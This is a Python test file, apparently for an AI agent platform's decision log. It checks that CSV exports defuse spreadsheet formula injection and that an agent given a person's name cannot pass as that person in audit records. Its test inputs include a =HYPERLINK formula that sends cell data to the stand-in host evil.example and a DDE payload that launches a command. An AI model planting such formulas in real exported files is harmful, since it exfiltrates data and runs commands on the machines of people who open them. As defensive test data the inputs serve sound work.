"""What others wrote, in the decision log that people open in a spreadsheet or read on a page."""

import csv
import io
import json
import re
from dataclasses import replace

import pytest

from adapters.screens.decision_log import csv_text, json_line, row_text, who_text
from agent_core.model.records.audit import AuditEntry
from agent_core.service.reading.decision_log import LogFilter
from agent_core.spending.helper_tree import as_actor
from agent_core.testing.examples import ANA, NOON, an_agent
from tests.attacks.rows import attack

ADA = an_agent(turns=1)
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '"=1',
    " =1",
    "ok;=1",
    "ok\t@x",
    "ok\n=1",
    "\uff1d1",
)


@attack(
    "approval",
    "CSV injection: a reason for a rejection that is a formula, =HYPERLINK(…), also after a semicolon or a tab",
    "the CSV file has an apostrophe before it",
)
def test_no_cell_of_the_table_is_a_formula() -> None:
    for text in FORMULAS:
        assert formulas_in(text) == [], text


def formulas_in(text: str) -> list[str]:
    """What a spreadsheet would run of a row in which people wrote this, however it splits cells."""
    whose = replace(ADA, name=text)
    table = csv_text([AuditEntry.on(whose, "reject", by=replace(ANA, display=text), at=NOON, detail=text)])
    cells = [cell for line in csv.reader(io.StringIO(table[1:], newline="")) for cell in line]
    parts = [part.strip('" \r') for cell in cells for part in re.split("[;\t\n]", cell)]
    return [part for part in parts if part[:1] in tuple("=+-@\uff1d")]


NAMES = ("ana", "ana” · @ana", "@ana", "ANA")


@attack(
    "approval", "A helper has a person's name, so that its actions look like that person's in the log", "agent “ana”"
)
@pytest.mark.proves("log:agents")
def test_an_agents_act_is_not_told_as_a_persons(answer: str) -> None:
    for name in NAMES:
        helper = as_actor(replace(ADA, name=name))
        forged, hers = (AuditEntry.on(ADA, "created", by=by, at=NOON) for by in (helper, replace(ANA, display=name)))
        assert (row_text(forged) != row_text(hers), json_line(forged) != json_line(hers)) == (True, True), name
        assert who_text(helper).count("”") == 1
        assert [LogFilter(person=name).admits(entry) for entry in (forged, hers)] == [False, not name.startswith("@")]
    assert who_text(as_actor(replace(ADA, name="ana"))) == answer


def test_the_files_of_the_log_say_what_kind_of_actor_it_was() -> None:
    entry = AuditEntry.on(ADA, "created", by=as_actor(ADA), at=NOON)
    (row,) = csv.DictReader(io.StringIO(csv_text([entry])[1:], newline=""))
    assert (row["who"], row["who_kind"], json.loads(json_line(entry))["who_kind"]) == (ADA.name, "bot", "bot")
